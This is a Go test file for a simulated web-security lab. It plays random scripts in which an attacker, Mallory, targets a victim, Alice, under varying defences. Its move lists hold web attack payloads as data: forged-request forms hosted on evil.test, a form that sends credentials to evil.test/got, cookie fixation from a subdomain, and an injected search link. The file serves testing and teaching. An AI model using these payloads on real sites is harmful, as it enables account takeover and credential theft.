package scenarios

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"fixlab/lab"
	"fixlab/lab/defence"
	"fixlab/lab/event"
	"fixlab/lab/script"
	"fixlab/lab/server"
)

var oracleRuns = flag.Int("oracle", 0, "how many random scripts TestOracle plays; 0 for a part of them")

// oracleMoves are what random scripts are made of. A line of several words with
// "|" between them is one of those.
var oracleMoves = strings.Split(strings.TrimSpace(`
mallory get /
mallory get /
mallory copy loot
mallory token
mallory route
mallory route
mallory get /login|mallory get /profile|mallory get /basket|mallory get /transfer
mallory get /profile
mallory get /basket
mallory read csrf token
mallory post /basket item=bomb-of-mallory
mallory post /login user=mallory password=hunter2
mallory post /signup user=mona password=m
mallory post /login user=alice password=correct-horse|mallory post /sso user=alice ticket=ticket-for-alice|mallory post /login user=alice password=wrong
mallory post /logout
mallory paste $cookie=$loot
mallory forget
mallory join alice
mallory@alice copy loot|mallory@alice get /profile|mallory@alice paste $cookie=$loot
mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure
mallory serve https://blog.shop.example/ Set-Cookie: $cookie="$loot"; Domain=shop.example; Path=/; Secure
mallory serve https://evil.test/ <form method="post" action="https://shop.example/login"><input name="user" value="mallory"><input name="password" value="hunter2"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/basket"><input name="item" value="bomb-of-mallory"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/logout"></form>
mallory serve https://evil.test/ <form method="post" action="https://evil.test/got"><input name="user"><input name="password"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/transfer"><input name="token" value="$csrf"><input name="to" value="mallory"><input name="amount" value="100"></form>
mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cform%20method%3Dpost%20action%3D/basket%3E%3Cinput%20name%3Ditem%20value%3Dbomb-of-mallory%3E%3C/form%3E">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/?sid=$$loot">Prize</a>
alice get /
alice get /login
alice get https://blog.shop.example/
alice get https://evil.test/
alice get https://evil.test/
alice click Prize
alice submit
alice submit user=alice password=correct-horse
alice post /login user=alice password=correct-horse
alice post /login user=alice password=correct-horse
alice post /login user=alice password=wrong|alice post /login user=mallory password=hunter2|alice@mallory post /login user=alice password=correct-horse
alice post /sso user=alice ticket=ticket-for-alice|alice post /signup user=carol password=c|alice post /step-up password=correct-horse
alice post /basket item=pear-of-alice
alice get /basket
alice get /profile
alice get /profile
alice get /transfer
alice submit to=bob amount=5
alice post /logout
alice wait 61s|alice wait 400h
alice forget
server deploy
server cache
`), "\n")

// story is an attack in its parts, each of which can go in several ways; " & "
// stands between steps.
var story = strings.Split(strings.TrimSpace(`
alice get /|alice post /basket item=pear-of-alice|alice get /login
mallory get /|mallory post /basket item=bomb-of-mallory|mallory get /login & mallory read csrf token|mallory post /login user=mallory password=hunter2|mallory token
mallory copy loot
mallory route|mallory@alice paste $cookie=$loot|mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure & alice get https://blog.shop.example/
alice post /basket item=pear-of-alice|alice get /basket|alice get /login
alice post /login user=alice password=correct-horse|alice post /sso user=alice ticket=ticket-for-alice|alice post /signup user=carol password=c|alice get /
alice get /profile|alice get /basket|alice post /basket item=pear-of-alice|alice get /transfer & alice submit to=bob amount=5
mallory@alice copy loot & mallory paste $cookie=$loot|mallory get /basket|mallory get /login & mallory read csrf token
mallory get /profile|mallory get /basket|mallory get /login|mallory post /basket item=bomb-of-mallory|mallory get /transfer
mallory@alice copy loot|alice copy mine
alice post /logout|alice post /logout|alice get /profile|alice wait 400h & alice get /profile
mallory paste $cookie=$loot|alice paste $cookie=$mine
mallory get /profile|mallory get /basket|mallory get /login|mallory post /logout|alice get /basket
`), "\n")

// A question is a random script and the switches under which it is played.
type question struct {
	header string
	steps  []string
	on     defence.Set
}

// questionOf makes the question of that number.
func questionOf(n int) question {
	random := rand.New(rand.NewPCG(11, uint64(n)))
	ids, routes, tokens := server.IDs(), fragmentNames(Routes), []string{"trap", "own", "forged", "oracle"}
	q := question{header: fmt.Sprintf("title: T\nprofile: %s\nroute: %s\ntoken: %s\nbrowser: %s\n\n", ids[n%len(ids)], routes[random.IntN(len(routes))], tokens[random.IntN(len(tokens))], script.Browsers[random.IntN(len(script.Browsers))])}
	pick := func(line string) string {
		one := strings.Split(line, "|")
		return one[random.IntN(len(one))]
	}
	if random.IntN(3) > 0 { // a story, with parts of it left out
		for _, part := range story {
			if random.IntN(4) > 0 {
				q.steps = append(q.steps, strings.Split(pick(part), " & ")...)
			}
		}
		for range random.IntN(4) {
			q.steps = slices.Insert(q.steps, random.IntN(len(q.steps)+1), pick(oracleMoves[random.IntN(len(oracleMoves))]))
		}
	} else {
		q.steps = []string{"mallory let loot=chosen", "mallory let csrf=none"}
		for range 5 + random.IntN(12) {
			q.steps = append(q.steps, pick(oracleMoves[random.IntN(len(oracleMoves))]))
		}
	}
	if random.IntN(3) > 0 {
		for range 1 + random.IntN(3) {
			q.on = q.on.Flip(defence.All[random.IntN(len(defence.All))].Set)
		}
	}
	return q
}

// fragmentNames returns the names of list, in order.
func fragmentNames(list []*script.Fragment) (names []string) {
	for _, f := range list {
		names = append(names, f.Name)
	}
	return names
}

// text returns q as a scenario file.
func (q question) text() string {
	return q.header + strings.Join(q.steps, "\n") + "\n"
}

// run plays the script; t is nil when it cannot be played.
func (q question) run() (t *lab.Trace) {
	s, err := script.Parse("oracle", q.text())
	if err == nil {
		s, err = Arrange(s, s.Setup)
	}
	if err == nil {
		t, err = lab.Run(s, q.on)
	}
	if err != nil {
		return nil
	}
	return t
}

// answer returns what the oracle has against the run, "" when it has nothing or
// the script cannot be played.
func (q question) answer() string { return objection(q.run()) }

// objection is answer for the run of a question, nil when there is none.
func objection(t *lab.Trace) string {
	if t == nil {
		return ""
	}
	if objection := objects(t); objection != "" {
		return fmt.Sprintf("%s, and the verdict is %s %v %v", objection, t.Verdict.Outcome, t.Verdict.Also, t.Verdict.Because)
	}
	return ""
}

// smallest leaves out steps and switches as long as the oracle objects.
func (q question) smallest() question {
	for again := true; again; {
		again = false
		for i := range q.steps {
			less := q
			less.steps = slices.Delete(slices.Clone(q.steps), i, i+1)
			if less.answer() != "" {
				q, again = less, true
				break
			}
		}
		for _, d := range defence.All {
			less := q
			if less.on &^= d.Set; q.on.Has(d.Set) && less.answer() != "" {
				q, again = less, true
			}
		}
	}
	return q
}

// TestOracle: the judge and the oracle agree on random scripts over every profile,
// route and switch.
func TestOracle(t *testing.T) {
	t.Parallel()
	count := *oracleRuns
	if count == 0 {
		count = 3000
	}
	told := 0
	outcomes := map[event.Outcome]int{}
	for n := range count {
		q := questionOf(n)
		run := q.run()
		if run != nil {
			outcomes[run.Verdict.Outcome]++
		}
		if objection(run) == "" {
			continue
		}
		q = q.smallest()
		t.Errorf("script %d under %s: %s\n%s", n, q.on, q.answer(), q.text())
		if told++; told == 5 {
			t.Fatal("and perhaps more")
		}
	}
	t.Log(outcomes)
	for _, o := range event.Outcomes {
		if outcomes[o] == 0 {
			t.Errorf("no script of %d ends %s", count, o)
		}
	}
}
